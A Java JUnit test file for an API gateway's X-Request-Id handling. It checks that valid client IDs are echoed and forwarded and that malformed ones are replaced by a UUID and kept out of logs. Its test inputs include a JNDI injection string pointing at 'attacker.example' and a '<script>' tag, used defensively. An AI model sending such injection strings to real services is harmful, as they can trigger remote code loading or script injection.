package dev.atelier.gateway;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.http.HttpHeaders;

import java.util.List;
import java.util.UUID;

@ExtendWith(OutputCaptureExtension.class)
class RequestIdTest {

    private static final String HEADER = "X-Request-Id";

    private final RunningGateway gateway = RunningGateway.shared();

    @BeforeEach
    void forget() {
        gateway.reset();
    }

    @Test
    void isTheClientsFromEndToEnd(CapturedOutput output) {
        assertThat(answered("Basket-17.3_a")).isEqualTo("Basket-17.3_a");

        assertThat(passedOn()).containsExactly("Basket-17.3_a");
        await().untilAsserted(
                        () ->
                                assertThat(output)
                                        .containsPattern(
                                                "GET /api/v1/users/me 200 \\d+ ms Basket-17.3_a"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a b",
                "a\tb",
                "${jndi:ldap://attacker.example}",
                "<script>",
                "a;b",
                "\u00e9",
                "12345678901234567890123456789012345678901234567890123456789012345"
            })
    void isNewWhenTheClientsIsNoneForALog(String odd, CapturedOutput output) {
        String id = answered(odd);

        assertThat(UUID.fromString(id)).isNotNull();
        assertThat(passedOn()).containsExactly(id);
        await().untilAsserted(() -> assertThat(output).contains(" ms " + id));
        assertThat(output).doesNotContain(odd);
    }

    @Test
    void isNewWhenThereIsNoneOrMoreThanOne() {
        assertThat(UUID.fromString(answered())).isNotNull();
        assertThat(UUID.fromString(answered("one", "two"))).isNotNull();
    }

    @Test
    void isInRefusalsToo() {
        var problem =
                ProblemAnswer.of(
                        gateway.anonymous()
                                .get()
                                .uri("/api/v1/users/me")
                                .header(HEADER, "mine")
                                .exchange(),
                        401,
                        "unauthenticated");

        assertThat(problem.headers().get(HEADER)).containsExactly("mine");
    }

    @Test
    void isThereOnceWhateverServiceSays() {
        gateway.users.answers((_, response) -> response.header(HEADER, "of the service").send());

        assertThat(answered("mine")).isEqualTo("mine");
    }

    private String answered(String... sent) {
        HttpHeaders headers =
                gateway.signedIn()
                        .get()
                        .uri("/api/v1/users/me")
                        .headers(all -> all.addAll(HEADER, List.of(sent)))
                        .exchange()
                        .expectBody()
                        .returnResult()
                        .getResponseHeaders();
        assertThat(headers.get(HEADER)).hasSize(1);
        return headers.getFirst(HEADER);
    }

    private List<String> passedOn() {
        assertThat(gateway.asked()).hasSize(1);
        return gateway.asked().getFirst().headers().getAll(HEADER);
    }
}
